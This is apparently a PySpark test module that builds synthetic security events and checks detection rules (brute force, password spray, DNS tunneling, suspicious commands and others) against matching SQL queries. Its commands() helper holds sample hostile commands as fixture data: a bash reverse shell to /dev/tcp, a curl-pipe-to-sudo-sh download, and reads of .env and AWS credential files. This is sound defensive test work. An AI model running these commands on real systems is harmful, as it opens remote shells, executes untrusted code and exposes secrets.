"""Detection rules with thresholds that fit the sparse test events."""

from __future__ import annotations

from pyspark.sql import functions as F

from vigilframe.operators import detect as d
from vigilframe.operators.loops import cut
from vigilframe.plans.registry import query

H, DAY = 3_600_000_000, 86_400_000_000
WIN_SQL = """(SELECT {k}, n, us AS end_us, start_us FROM (SELECT *, row_number() OVER (PARTITION BY {k} ORDER BY n DESC, us) AS rn FROM (SELECT {k}, us, count(*)
 OVER (PARTITION BY {k} ORDER BY us RANGE BETWEEN {w} PRECEDING AND CURRENT ROW) AS n, min(us) OVER (PARTITION BY {k} ORDER BY us RANGE BETWEEN {w} PRECEDING
 AND CURRENT ROW) AS start_us FROM {src})) WHERE rn = 1)"""
PUB = "src_ip LIKE '198.51.%'"


def http(t):
    """Page views of the events with some paths a scanner would ask for."""
    probe = F.when(F.col("k") % 5 == 0, F.concat(F.lit("/.git/"), F.col("k").cast("string"))).otherwise(F.col("path"))
    return t.ev.withColumn("path", probe)


HTTP_SQL = "(SELECT * REPLACE (CASE WHEN k % 5 = 0 THEN '/.git/' || k ELSE path END AS path) FROM ev)"


@query("det_web_recon", "ev",
       f"""WITH h AS (SELECT * FROM {HTTP_SQL}), p AS (SELECT * FROM h WHERE path LIKE '/.git/%') SELECT 'web-recon' AS rule, src_ip || '|probe' AS subject, CASE WHEN
       {PUB} THEN 'MEDIUM' ELSE 'LOW' END AS severity, n, start_us, end_us FROM {WIN_SQL.format(k='src_ip', w=DAY, src='p')} WHERE n >= 3 UNION ALL SELECT 'web-recon',
       src_ip || '|errors|' || b, 'LOW', e, a, z FROM (SELECT src_ip, us // {DAY} AS b, count(*) AS c, count(*) FILTER (status BETWEEN 400 AND 499) AS e,
       count(DISTINCT CASE WHEN status BETWEEN 400 AND 499 THEN path END) AS paths, min(us) AS a, max(us) AS z FROM h GROUP BY 1, 2) WHERE e >= 2 AND e >= 0.7 * c AND
       paths >= 2""")
def det_web_recon(t):
    return d.web_recon(http(t), 3, DAY, 2, 0.7, 2, DAY)


ART_SQL = f"""SELECT 'exposed-artifact' AS rule, path || '|' || src_ip AS subject, 'HIGH' AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev
 WHERE path LIKE '%.zip' AND status BETWEEN 200 AND 299 AND {PUB} GROUP BY path, src_ip"""


@query("det_exposed_artifact", "ev", ART_SQL)
def det_exposed_artifact(t):
    return d.exposed_artifacts(t.ev)


@query("join_request_id", "ev",
       "SELECT path, src_ip, count(*) AS n FROM (SELECT min(path) AS path, min(src_ip) AS src_ip FROM ev WHERE path LIKE '%.zip' AND status BETWEEN 200 AND 299 AND "
       f"{PUB} GROUP BY user_id_, us // {H}) GROUP BY ALL".replace("user_id_", "actor_id"))
def join_request_id(t):
    e = t.ev.withColumn("request_id", F.concat(F.col("actor_id"), F.lit("-"), F.expr(f"us div {H}").cast("string")))
    return d.exposed_artifacts(e).select(
        F.substring_index("subject", "|", 1).alias("path"), F.substring_index("subject", "|", -1).alias("src_ip"), "n")


@query("artifact_manifest", "ev",
       """WITH a AS (SELECT DISTINCT path, CASE WHEN k % 2 = 0 THEN 'r' || k END AS request_id, k FROM ev WHERE path LIKE '%.zip'), m AS (SELECT DISTINCT CASE WHEN k % 2 = 0
       THEN 'r' || k END AS request_id, CASE WHEN k % 2 = 1 THEN k || '.zip' END AS name, 'entry-' || k AS entry FROM ev) SELECT a.path, m.entry FROM a JOIN m ON
       a.request_id = m.request_id UNION SELECT a.path, m.entry FROM a JOIN m ON a.path LIKE '%/' || m.name""")
def artifact_manifest(t):
    rid = F.when(F.col("k") % 2 == 0, F.concat(F.lit("r"), F.col("k").cast("string")))
    a = t.ev.where("path LIKE '%.zip'").select("path", rid.alias("request_id")).distinct()
    m = t.ev.select(rid.alias("request_id"), F.when(F.col("k") % 2 == 1, F.concat(F.col("k").cast("string"), F.lit(".zip"))).alias("name"),
                    F.concat(F.lit("entry-"), F.col("k").cast("string")).alias("entry")).distinct()
    return d.artifact_manifest(a, m)


@query("det_cloud_credential", "ev",
       f"""WITH f AS (SELECT DISTINCT src_ip FROM ev WHERE path LIKE '%.zip' AND status BETWEEN 200 AND 299 AND {PUB}), b AS (SELECT count(*) >= 20 AND count(*) FILTER
       (src_ip LIKE '10.%') >= 0.9 * count(*) AS mostly FROM ev) SELECT 'cloud-credential-public' AS rule, actor_id || '|' || e.src_ip AS subject, CASE WHEN max(f.src_ip)
       IS NOT NULL THEN 'CRITICAL' ELSE 'HIGH' END AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev e LEFT JOIN f ON f.src_ip = e.src_ip, b WHERE
       e.{PUB} AND (mostly OR f.src_ip IS NOT NULL) GROUP BY actor_id, e.src_ip""")
def det_cloud_credential(t):
    return d.cloud_credentials(t.ev, d.flagged_addresses(d.exposed_artifacts(t.ev)), internal_share=0.9)


@query("det_bulk_read", "ev",
       f"""SELECT 'bulk-storage-read' AS rule, actor_id || '|' || target_id || '|' || src_ip AS subject, CASE WHEN {PUB} THEN 'HIGH' ELSE 'MEDIUM' END AS severity, count(*)
       AS n, min(a) AS start_us, max(z) AS end_us FROM (SELECT actor_id, target_id, src_ip, path, max(bytes) AS bytes, min(us) AS a, max(us) AS z FROM ev GROUP BY ALL)
       GROUP BY actor_id, target_id, src_ip HAVING count(*) >= 5 OR sum(bytes) >= 30000000""")
def det_bulk_read(t):
    return d.bulk_storage_read(t.ev.withColumn("bucket", F.col("target_id")), 5, 30_000_000)


@query("det_persistence", "ev",
       f"""SELECT 'cloud-persistence' AS rule, actor_id || '|CreateUser' AS subject, 'HIGH' AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev WHERE
       event_type = 'auth.login' AND ({PUB} OR actor_id IN (SELECT actor_id FROM ev WHERE severity = 'HIGH')) GROUP BY actor_id""")
def det_persistence(t):
    calls = t.ev.where("event_type = 'auth.login'").withColumn("api", F.lit("CreateUser"))
    return d.cloud_persistence(calls, t.ev.where("severity = 'HIGH'"))


BIG = """(SELECT greatest(10000000, 2 * (SELECT bytes FROM (SELECT bytes, row_number() OVER (ORDER BY bytes) - 1 AS i, count(*) OVER () AS n FROM ev) WHERE i = least(n - 1,
 CAST(floor(n * 0.9) AS BIGINT)))))"""


@query("det_large_transfer", "ev",
       f"SELECT 'large-transfer' AS rule, id AS subject, CASE WHEN {PUB} THEN 'HIGH' ELSE 'MEDIUM' END AS severity, CAST(1 AS BIGINT) AS n, us AS start_us, us AS end_us "
       f"FROM ev WHERE bytes * 10 >= {BIG.replace('2 *', '20 *')}")
def det_large_transfer(t):
    """Every tenth of the threshold is tested by scaling the sizes that are compared, not the rule."""
    limit = d.transfer_threshold(t.ev)
    e = t.ev.withColumn("limit", limit.scalar())
    big = e.where("bytes * 10 >= limit").select("id", "src_ip", F.lit(1).alias("n"), F.col("us").alias("start_us"), F.col("us").alias("end_us"))
    return big.select(F.lit("large-transfer").alias("rule"), F.col("id").alias("subject"),
                      F.when(d.public(F.col("src_ip")), "HIGH").otherwise("MEDIUM").alias("severity"), F.col("n").cast("long").alias("n"), "start_us", "end_us")


@query("scheduled_asof", "ev",
       f"""WITH j AS (SELECT id AS job_id, target_id AS host, us AS job_us FROM ev WHERE event_type = 'auth.login'), e AS (SELECT * FROM ev WHERE event_type = 'network.flow'),
       n AS (SELECT e.id, e.target_id, e.us, e.bytes, arg_max(job_id, (job_us, job_id)) AS job_id, max(job_us) AS job_us FROM e JOIN j ON j.host = e.target_id AND job_us
       BETWEEN e.us - {H} AND e.us GROUP BY ALL) SELECT n.id, n.job_id, n.job_us, EXISTS (SELECT 1 FROM ev w WHERE w.event_type = 'file.read' AND w.target_id = n.target_id AND
       w.us BETWEEN n.job_us AND n.us AND abs(w.bytes - n.bytes) <= 0.5 * n.bytes) AS file_written FROM n""")
def scheduled_asof(t):
    e = t.ev.withColumn("host", F.col("target_id"))
    return d.scheduled_context(e.where("event_type = 'network.flow'"), e.where("event_type = 'auth.login'"), e.where("event_type = 'file.read'"), 0.5)


BF_SQL = f"""WITH f AS (SELECT * FROM ev WHERE event_type = 'auth.failure'), b AS (SELECT * FROM {WIN_SQL.format(k='actor_id', w=5 * DAY, src='f')} WHERE n >= 4), i AS (SELECT
 b.actor_id, f.src_ip, count(*) AS c FROM f JOIN b ON b.actor_id = f.actor_id AND f.us BETWEEN start_us AND end_us GROUP BY ALL), m AS (SELECT actor_id, arg_max(src_ip, (c,
 src_ip)) AS main, max(c) AS mc FROM i GROUP BY 1), x AS (SELECT b.*, main, mc FROM b JOIN m ON m.actor_id = b.actor_id WHERE n >= 5 OR (mc >= 0.8 * n AND main LIKE
 '198.51.%')), s AS (SELECT x.actor_id, arg_min(l.id, (l.src_ip <> x.main, l.us, l.id)) AS sid FROM x JOIN ev l ON l.actor_id = x.actor_id AND l.event_type = 'auth.login' AND
 l.us BETWEEN x.end_us AND x.end_us + {DAY} GROUP BY 1)"""


@query("det_brute_force", "ev",
       f"""{BF_SQL} SELECT 'brute-force' AS rule, x.actor_id || '|' || start_us AS subject, CASE WHEN s.sid IS NOT NULL THEN 'HIGH' ELSE 'MEDIUM' END AS severity, n, start_us,
       end_us FROM x LEFT JOIN s ON s.actor_id = x.actor_id""")
def det_brute_force(t):
    f, logins = t.ev.where("event_type = 'auth.failure'"), t.ev.where("event_type = 'auth.login'")
    return d.brute_force(f, logins, 5 * DAY, 4, 5, DAY, H)


@query("success_after_burst", "ev",
       f"""WITH b AS (SELECT actor_id, us AS end_us, src_ip AS main FROM ev WHERE event_type = 'auth.failure') SELECT b.actor_id, b.end_us, arg_min(l.id, (l.src_ip <> b.main, l.us,
       l.id)) AS success_id, bool_or(l.src_ip = b.main) AS same_source FROM b JOIN ev l ON l.actor_id = b.actor_id AND l.event_type = 'auth.login' AND l.us BETWEEN b.end_us AND
       b.end_us + {DAY} GROUP BY ALL""")
def success_after_burst(t):
    b = t.ev.where("event_type = 'auth.failure'").select("actor_id", F.col("us").alias("end_us"), F.col("src_ip").alias("main"))
    return d.success_after(b, t.ev.where("event_type = 'auth.login'"), DAY)


@query("det_spray", "ev",
       f"""WITH f AS (SELECT * FROM ev WHERE event_type = 'auth.failure'), b AS (SELECT * FROM {WIN_SQL.format(k='src_ip', w=5 * DAY, src='f')} WHERE n >= 5) SELECT 'password-spray'
       AS rule, b.src_ip AS subject, CASE WHEN b.{PUB} THEN 'HIGH' ELSE 'MEDIUM' END AS severity, b.n, b.start_us, b.end_us FROM b JOIN f ON f.src_ip = b.src_ip AND f.us BETWEEN
       start_us AND end_us GROUP BY ALL HAVING count(DISTINCT f.actor_id) >= 3""")
def det_spray(t):
    return d.password_spray(t.ev.where("event_type = 'auth.failure'"), 5 * DAY, 5, 3)


@query("det_mfa", "ev",
       f"""WITH f AS (SELECT * FROM ev WHERE category = 'auth') SELECT 'mfa-fatigue' AS rule, actor_id AS subject, 'MEDIUM' AS severity, n, start_us, end_us FROM
       {WIN_SQL.format(k='actor_id', w=DAY, src='f')} WHERE n >= 4""")
def det_mfa(t):
    return d.mfa_fatigue(t.ev.where("category = 'auth'"), DAY, 4)


@query("det_new_signin", "ev",
       f"""WITH s AS (SELECT * FROM ev WHERE event_type = 'auth.login'), f AS (SELECT actor_id, arg_min(src_ip, (us, id)) AS src_ip, min(us) AS us FROM s WHERE {PUB} GROUP BY 1)
       SELECT 'new-external-signin' AS rule, f.actor_id || '|' || f.src_ip AS subject, 'MEDIUM' AS severity, count(*) AS n, f.us AS start_us, f.us AS end_us FROM f JOIN s ON
       s.actor_id = f.actor_id AND s.src_ip LIKE '10.%' AND s.us < f.us GROUP BY ALL HAVING count(*) >= 3""")
def det_new_signin(t):
    return d.new_external_signin(t.ev.where("event_type = 'auth.login'"))


CHG = f"""(SELECT n_nationkey, 'chg-' || lpad(CAST(n_nationkey AS VARCHAR), 3, '0') AS change_id, 1704067200000000 + n_nationkey * {DAY} AS from_us, 1704067200000000 +
 (n_nationkey + 2) * {DAY} AS until_us, CASE WHEN n_nationkey % 2 = 0 THEN 'approved' ELSE 'draft' END AS status, 'host:h' || (n_nationkey % 20) AS service FROM nation)"""


def changes(t):
    n = F.col("n_nationkey")
    return t.nation.select(
        F.concat(F.lit("chg-"), F.lpad(n.cast("string"), 3, "0")).alias("change_id"), (F.lit(1704067200000000) + n * DAY).alias("from_us"),
        (F.lit(1704067200000000) + (n + 2) * DAY).alias("until_us"), F.when(n % 2 == 0, "Approved").otherwise("draft").alias("status"),
        F.concat(F.lit("HOST:h"), (n % 20).cast("string")).alias("service"), F.lit("").alias("actor"))


COVER = f"""(SELECT e.id, min(change_id) AS change_id FROM ev e JOIN {CHG} c ON c.status = 'approved' AND e.us BETWEEN from_us AND until_us AND contains(e.target_id, c.service)
 GROUP BY e.id)"""


@query("change_cover", "ev", f"SELECT id, change_id FROM {COVER}")
def change_cover(t):
    return d.change_cover(t.ev, changes(t))


@query("det_destructive", "ev",
       f"""SELECT 'destructive-change' AS rule, actor_id AS subject, CASE WHEN count(*) >= 5 THEN 'HIGH' ELSE 'MEDIUM' END AS severity, count(*) AS n, min(us) AS start_us, max(us) AS
       end_us FROM ev WHERE event_type = 'auth.failure' AND id NOT IN (SELECT id FROM {COVER}) GROUP BY actor_id""")
def det_destructive(t):
    return d.destructive_changes(t.ev.where("event_type = 'auth.failure'"), d.change_cover(t.ev, changes(t)))


@query("det_tamper", "ev",
       "SELECT 'log-tampering' AS rule, actor_id || '|StopLogging' AS subject, 'HIGH' AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev WHERE severity = "
       "'HIGH' GROUP BY actor_id")
def det_tamper(t):
    return d.log_tampering(t.ev.withColumn("api", F.when(F.col("severity") == "HIGH", "StopLogging").otherwise("GetObject")))


@query("det_credential_access", "ev",
       f"""SELECT 'credential-access' AS rule, target_id || '|' || (us // {DAY}) AS subject, 'MEDIUM' AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev WHERE
       event_type = 'file.read' AND k % 10 = 1 GROUP BY target_id, us // {DAY}""")
def det_credential_access(t):
    path = F.when((F.col("k") % 10 == 1), F.lit("/home/u/.aws/credentials")).otherwise(F.col("path"))
    return d.credential_access(t.ev.where("event_type = 'file.read'").withColumn("path", path))


@query("det_service_source", "ev",
       f"""SELECT 'service-account-new-source' AS rule, actor_id || '|' || src_ip AS subject, CASE WHEN {PUB} THEN 'HIGH' ELSE 'MEDIUM' END AS severity, earlier AS n, us AS start_us, us
       AS end_us FROM (SELECT 'user:svc-' || substr(actor_id, 7) AS actor_id, src_ip, us, row_number() OVER (PARTITION BY actor_id ORDER BY us, id) - 1 AS earlier, row_number() OVER
       (PARTITION BY actor_id, src_ip ORDER BY us, id) AS u FROM ev WHERE event_type = 'auth.login') WHERE u = 1 AND earlier >= 3""")
def det_service_source(t):
    s = t.ev.where("event_type = 'auth.login'").withColumn("actor_id", F.concat(F.lit("user:svc-"), F.expr("substr(actor_id, 7)")))
    return d.service_new_source(s)


@query("det_alerts", "ev",
       """SELECT 'security-alert' AS rule, source || '|' || actor_id || '|' || target_id AS subject, CASE max(severity_rank) WHEN 3 THEN 'HIGH' ELSE 'MEDIUM' END AS severity, count(*) AS n,
       min(us) AS start_us, max(us) AS end_us FROM ev WHERE severity_rank >= 2 GROUP BY source, actor_id, target_id""")
def det_alerts(t):
    return d.security_alerts(t.ev.withColumn("signature", F.col("source")))


def commands(t):
    m = F.col("k") % 6
    cmd = (F.when(m == 0, "bash -i >& /dev/tcp/1.2.3.4/9").when(m == 1, "curl http://x | sudo sh").when(m == 2, "pg_dump prod").when(m == 3, "deploy --skip-tests")
           .when(m == 4, "cat /home/u/.env").otherwise("ls -la"))
    return t.ev.withColumn("command", cmd).withColumn("scheduled", F.col("k") % 4 == 0)


@query("det_command", "ev",
       """SELECT 'suspicious-command' AS rule, target_id || '|' || actor_id || '|' || family AS subject, CASE WHEN family IN ('reverse shell', 'download and execute') THEN 'HIGH' ELSE
       'MEDIUM' END AS severity, count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM (SELECT *, CASE k % 6 WHEN 0 THEN 'reverse shell' WHEN 1 THEN 'download and execute' WHEN 2 THEN
       'database export' WHEN 3 THEN 'control bypass' WHEN 4 THEN 'credential discovery' END AS family FROM ev) WHERE family IS NOT NULL AND NOT (family = 'database export' AND k % 4 = 0)
       GROUP BY target_id, actor_id, family""")
def det_command(t):
    return d.suspicious_commands(commands(t))[0]


@query("det_explained", "ev",
       """SELECT 'suspicious-command' AS rule, id, 'scheduled job' AS reason FROM ev WHERE k % 6 = 2 AND k % 4 = 0 UNION ALL SELECT 'large-export', id, 'ticket' FROM ev WHERE bytes >= 10000000
       AND k % 3 = 0""")
def det_explained(t):
    files = t.ev.withColumn("ticket", F.when(F.col("k") % 3 == 0, "T-1"))
    return d.suspicious_commands(commands(t))[1].unionByName(d.large_exports(files, 10_000_000)[1])


@query("det_export", "ev",
       "SELECT 'large-export' AS rule, id AS subject, 'MEDIUM' AS severity, CAST(1 AS BIGINT) AS n, us AS start_us, us AS end_us FROM ev WHERE bytes >= 10000000 AND k % 3 <> 0")
def det_export(t):
    return d.large_exports(t.ev.withColumn("ticket", F.when(F.col("k") % 3 == 0, "T-1")), 10_000_000)[0]


@query("det_sql", "ev",
       """SELECT 'risky-sql' AS rule, actor_id || '|' || CASE k % 3 WHEN 0 THEN 'file-export' ELSE 'destructive' END AS subject, CASE k % 3 WHEN 0 THEN 'HIGH' ELSE 'MEDIUM' END AS severity,
       count(*) AS n, min(us) AS start_us, max(us) AS end_us FROM ev WHERE k % 3 < 2 GROUP BY actor_id, k % 3""")
def det_sql(t):
    m = F.col("k") % 3
    s = F.when(m == 0, "copy t to '/tmp/x'").when(m == 1, "drop table t").otherwise("select 1")
    return d.risky_sql(t.ev.withColumn("statement", s))


@query("det_dns_tunnel", "ev",
       """SELECT 'dns-tunneling' AS rule, src_ip || '|tunnel' || (k % 2) || '.example' AS subject, 'HIGH' AS severity, count(DISTINCT us) AS n, min(us) AS start_us, max(us) AS end_us FROM ev
       GROUP BY src_ip, k % 2 HAVING count(DISTINCT us) >= 10""")
def det_dns_tunnel(t):
    name = F.concat(F.lpad(F.col("us").cast("string"), 40, "a"), F.lit(".tunnel"), (F.col("k") % 2).cast("string"), F.lit(".example"))
    return d.dns_tunneling(t.ev.select(F.col("src_ip").alias("client"), name.alias("name"), "us"), 10)


@query("dns_before_flow", "ev",
       f"""SELECT f.id, arg_max(a.name, (a.us, a.name)) AS name FROM (SELECT id, src_ip, us FROM ev WHERE event_type = 'network.flow') f JOIN (SELECT src_ip, us, 'n' || k AS name FROM ev
       WHERE event_type = 'http.request') a ON a.src_ip = f.src_ip AND a.us BETWEEN f.us - {H} AND f.us GROUP BY f.id""")
def dns_before_flow(t):
    flows = t.ev.where("event_type = 'network.flow'").select("id", F.col("src_ip").alias("dst_ip"), "us")
    answers = t.ev.where("event_type = 'http.request'").select(F.col("src_ip").alias("ip"), F.concat(F.lit("n"), F.col("k").cast("string")).alias("name"), "us")
    return d.dns_before(flows, answers)


def detections(t):
    """High and medium failures as detections with their actor and address as shared entities."""
    return t.ev.where("severity_rank >= 2").select(
        "id", F.col("us").alias("start_us"), (F.col("us") + 600_000_000).alias("end_us"), "severity", "confidence", "source", "actor_id", "src_ip")


def _chains(t):
    det = cut(detections(t))
    pivots = det.select("id", F.explode(F.array("actor_id", "src_ip")).alias("pivot"))
    return d.chains(det, pivots, 12 * H), det.withColumn("rule", F.col("source"))


CHAIN_SQL = f"""WITH RECURSIVE dt AS (SELECT id, us AS s, us + 600000000 AS e, severity, severity_rank, confidence, source, actor_id, src_ip FROM ev WHERE severity_rank >= 2), p AS (SELECT
 id, s, e, actor_id AS pv FROM dt UNION ALL SELECT id, s, e, src_ip FROM dt), l AS (SELECT id AS b, s, e, lag(id) OVER w AS a, lag(s) OVER w AS ps, lag(e) OVER w AS pe FROM p WINDOW w AS
 (PARTITION BY pv ORDER BY s, id)), k AS (SELECT a, b FROM l WHERE a IS NOT NULL AND s - pe <= {12 * H} AND ps - e <= {12 * H}), u AS (SELECT a, b FROM k UNION SELECT b, a FROM k), r AS
 (SELECT a AS id, a AS m FROM u UNION SELECT u.b, r.m FROM r JOIN u ON u.a = r.id), c AS (SELECT id, min(m) AS chain FROM r GROUP BY id), z AS (SELECT chain, count(*) AS size,
 max(severity_rank) AS top FROM c JOIN dt USING (id) GROUP BY chain HAVING count(*) >= 2 AND max(severity_rank) >= 3)"""


@query("det_chains", "ev", f"{CHAIN_SQL} SELECT c.id, c.chain, z.size FROM c JOIN z ON z.chain = c.chain")
def det_chains(t):
    return _chains(t)[0]


@query("det_incidents", "ev",
       f"""{CHAIN_SQL} SELECT c.chain, count(*) AS steps, CASE WHEN count(*) >= 4 THEN 'CRITICAL' ELSE 'HIGH' END AS severity, round(least(0.95, avg(confidence) + 0.1), 4) AS confidence, min(s) AS
       start_us, max(e) AS end_us, string_agg(DISTINCT source, ',' ORDER BY source) AS rules FROM c JOIN z ON z.chain = c.chain JOIN dt ON dt.id = c.id GROUP BY c.chain""")
def det_incidents(t):
    chain, det = _chains(t)
    return d.incidents(chain.select("id", "chain"), det)


@query("det_findings", "ev",
       f"SELECT 'finding:detect:exposed-artifact:' || substr(sha256(subject || chr(31)), 1, 12) AS id, severity, subject, n FROM ({ART_SQL})")
def det_findings(t):
    return d.to_findings(d.exposed_artifacts(t.ev)).select("id", "severity", "subject", "n")
